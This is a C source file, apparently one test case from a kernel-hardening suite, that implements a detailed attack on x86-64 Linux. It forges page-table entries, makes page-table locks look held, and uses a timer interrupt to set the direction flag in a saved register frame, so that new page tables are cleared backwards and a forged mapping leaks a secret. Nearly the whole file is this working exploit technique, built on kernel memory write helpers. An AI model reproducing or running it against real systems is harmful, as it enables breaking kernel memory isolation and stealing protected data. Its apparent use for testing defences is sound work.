// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attack on how a new table is cleared: by a string instruction, in a section, whose
 * direction is a flag. mremap() makes tables, and waits for the lock of one, which is
 * made to look held. A timer interrupts it there, ahead of any section, and its handler
 * waits for a lock as well. Meanwhile the flag is set on the stack. So each table that
 * is made then is cleared backwards: what it had before is in it, but for one entry.
 * Tables with entries come to the pool where an area is made to look shorter than it is.
 */
#include <signal.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "objects.h"
#include "pt_regs.h"

#ifdef __x86_64__
#define MOVER_CPU	1
#define HIDDEN		20		/* tables with an entry that nobody zaps */
#define STEPS		40		/* tables of each level that are made backwards */
#define SPARE		400		/* that are freed, so that all are */
#define HIDDEN_PART	0x61
#define OLD_PART	0x62
#define NEW_PART	0x63
#define SPARE_PART	0x66
#define FILL_PART	0x68
#define FILL		1500		/* what is free next to tables of others */
#define GIB		(1UL << 30)
#define IN_PMD		(5 * PMD_SIZE)
#define IN_PTE		(8 * PAGE_SIZE)
#define VMA_END		8
#define TABLE_LOCK	40
#define FRAME_FLAGS	18
#define DF		0x400UL
#define FIRST		40000UL		/* microseconds from the start of mremap() */
#define SECOND		700000UL
#define EARLY		8000UL
#define HOLD		10000UL
#define SLOW_PATH	"native_queued_spin_lock_slowpath"
#define SLOW_SIZE	0x600
#define SPIN_LOCK	"_raw_spin_lock"
#define SPIN_SIZE	0x40

static struct {
	volatile bool ready, go, done;
	volatile uint64_t start;	/* nanoseconds */
	volatile pid_t pid;
	volatile int failed;
	char text[SECRET_SIZE];
} *shared;

struct target {
	struct task task;
	uint64_t signals, first, last, slow, spin;
	uint64_t set, clear;
	int changed;
};

static uint64_t now_ns(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return time.tv_sec * 1000000000UL + time.tv_nsec;
}

static void sleep_until(uint64_t when)
{
	while (now_ns() < when)
		usleep(500);
}

/* ---- the mover ---- */

static volatile char *map(uint64_t at, size_t size)
{
	void *region = mmap((void *)at, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS |
			    MAP_NORESERVE | MAP_FIXED_NOREPLACE, -1, 0);

	return region == MAP_FAILED ? NULL : region;
}

static void make_tables(int part, int nr)
{
	volatile char *region = sparse_region(user_room(part), nr, PROT_READ | PROT_WRITE);
	int i;

	for (i = 0; region && i < nr; i++)
		region[i * PMD_SIZE] = 1;
}

/* What was freed before is free by then, too. */
static void make_and_free_spare(void)
{
	make_tables(SPARE_PART, SPARE);
	munmap((void *)user_room(SPARE_PART), SPARE * PMD_SIZE);
	sleep(2);
}

static volatile uint64_t *forged;	/* a page of ours, twice */
static int memory;

static bool make_forged(void)
{
	int i;

	memory = memfd_create("forged", 0);
	if (memory < 0 || ftruncate(memory, 2 * PAGE_SIZE))
		return false;
	forged = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, memory, PAGE_SIZE);
	if (forged == MAP_FAILED)
		return false;
	for (i = 0; i < 512; i++)
		forged[i] = (victim_phys() & ~(PAGE_SIZE - 1)) | PTE_USER_RW;
	return true;
}

static uint64_t hidden(int i)
{
	return user_room(HIDDEN_PART) + 2 * i * PMD_SIZE;
}

/* A table of PTEs that leads to that page, with one behind it that stays. */
static bool make_hidden(int i)
{
	volatile char *at, *behind;

	at = mmap((void *)hidden(i), 2 * PAGE_SIZE, PROT_READ | PROT_WRITE,
		  MAP_SHARED | MAP_FIXED_NOREPLACE, memory, 0);
	if (at == MAP_FAILED)
		return false;
	at[PAGE_SIZE + 8] = at[PAGE_SIZE + 8];
	behind = map(hidden(i) + PMD_SIZE, PAGE_SIZE);
	if (behind)
		behind[0] = 1;
	return behind;
}

/* It is freed as it is. */
static bool hide_forged(int i)
{
	uint64_t vma = find_vma((void *)hidden(i));

	return vma && !kwrite64(vma + VMA_END, hidden(i) + PAGE_SIZE) &&
	       !munmap((void *)hidden(i), 2 * PAGE_SIZE);
}

static bool hide_all(void)
{
	int i;

	for (i = 0; i < HIDDEN; i++)
		if (!make_hidden(i))
			return false;
	for (i = 0; i < HIDDEN; i++)
		if (!hide_forged(i))
			return false;
	return true;
}

/* Where a new table leads to it as to a table: all that it maps is ours. */
static void look_forged(const char *base)
{
	char text[SECRET_SIZE] = "";
	int i;

	for (i = 0; i < STEPS; i++) {
		memcpy(text, base + i * GIB + PMD_SIZE + victim_phys() % PAGE_SIZE, SECRET_SIZE - 1);
		if (text[0])
			memcpy(shared->text, text, sizeof(text));
	}
}

static void arm(void)
{
	struct itimerspec second = { { 0, 0 }, { 0, SECOND * 1000 } };
	struct itimerval first = { { 0, 0 }, { 0, FIRST } };
	struct sigevent event = { .sigev_notify = SIGEV_SIGNAL, .sigev_signo = SIGALRM };
	timer_t timer;

	timer_create(CLOCK_MONOTONIC, &event, &timer);
	timer_settime(timer, 0, &second, NULL);
	setitimer(ITIMER_REAL, &first, NULL);
}

static void move(void)
{
	size_t size = STEPS * GIB;
	volatile char *old = map(user_room(OLD_PART), size);
	char *new = (char *)user_room(NEW_PART) + PAGE_SIZE;
	int i;

	if (!old || !make_forged())
		_exit(1);
	madvise((void *)old, size, MADV_NOHUGEPAGE);
	for (i = 0; i < STEPS; i++)
		old[i * GIB + IN_PMD + IN_PTE] = 1;
	shared->failed = !hide_all();
	make_and_free_spare();
	shared->ready = true;
	while (!shared->go)
		usleep(1000);
	shared->start = now_ns();
	arm();
	if (mremap((void *)old, size, size, MREMAP_MAYMOVE | MREMAP_FIXED, new) == new)
		look_forged(new - PAGE_SIZE);
	shared->done = true;
	for (;;)
		pause();
}

/* Its parent stays, with the tables that it took for itself. */
static void start_mover(void)
{
	shared = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (fork())
		return;
	stay_on_cpu(MOVER_CPU);
	heed_alarms();
	make_and_free_spare();
	make_tables(FILL_PART, FILL);
	if (fork())
		for (;;)
			pause();
	shared->pid = getpid();
	move();
	_exit(1);
}

/* ---- who changes its flags ---- */

static uint64_t table_lock(pid_t pid, uint64_t addr)
{
	struct slot slot;

	if (kwalk(addr, LEVEL_PMD, pid, &slot) || !slot.value)
		return 0;
	return memory_map_base() + (slot.value & PTE_PFN_MASK) / PAGE_SIZE * STRUCT_PAGE + TABLE_LOCK;
}

static bool find_target(struct target *target)
{
	uint64_t old = user_room(OLD_PART) + IN_PMD;

	target->slow = ksymbol(SLOW_PATH) ?: ksymbol("queued_spin_lock_slowpath");
	target->spin = ksymbol(SPIN_LOCK);
	if (ktask(shared->pid, &target->task))
		return false;
	target->first = table_lock(shared->pid, old);
	target->last = table_lock(shared->pid, old + (STEPS - 1) * GIB);
	target->signals = find_signal_lock(&target->task);
	return target->first && target->last && target->signals;
}

static void change_frame(void *data, uint64_t at, const uint64_t *frame)
{
	struct target *target = data;
	uint64_t ip = frame[FRAME_IP];

	if (ip - target->slow >= SLOW_SIZE && ip - target->spin >= SPIN_SIZE)
		return;
	kwrite64(at + FRAME_FLAGS * 8, (frame[FRAME_FLAGS] | target->set) & ~target->clear);
	target->changed++;
}

static void change_flags(struct target *target, uint64_t when, uint64_t set, uint64_t clear,
			 uint64_t lock)
{
	sleep_until(when - EARLY * 1000);
	set_lock(target->signals, true);
	sleep_until(when + HOLD * 1000);
	target->set = set;
	target->clear = clear;
	find_frames(&target->task, 0, -1, change_frame, target);
	set_lock(target->signals, false);
	usleep(2000);
	set_lock(lock, false);
}

/* It is set while tables of one kind and of the other are made, and then it is cleared. */
static bool move_backwards(struct target *target)
{
	int tries, set;

	set_lock(target->first, true);
	set_lock(target->last, true);
	shared->go = true;
	while (!shared->start)
		;
	change_flags(target, shared->start + FIRST * 1000, DF, 0, target->first);
	set = target->changed;
	change_flags(target, shared->start + SECOND * 1000, 0, DF, target->last);
	for (tries = 0; tries < 300 && !shared->done; tries++)
		usleep(10000);
	return set;
}

enum outcome backwards_pool(void)
{
	struct target target = { 0 };

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	if (!is_protected())
		return vdso_text();
	stay_on_cpu(0);
	start_mover();
	while (!shared->ready)
		usleep(1000);
	if (shared->failed || !find_target(&target))
		return broken("no table that is hidden, or no lock of one");
	if (!move_backwards(&target))
		return broken("no frame was found");
	return judge_secret(shared->text, 0);
}
#else
enum outcome backwards_pool(void)
{
	return skipped("x86-64 only");
}
#endif
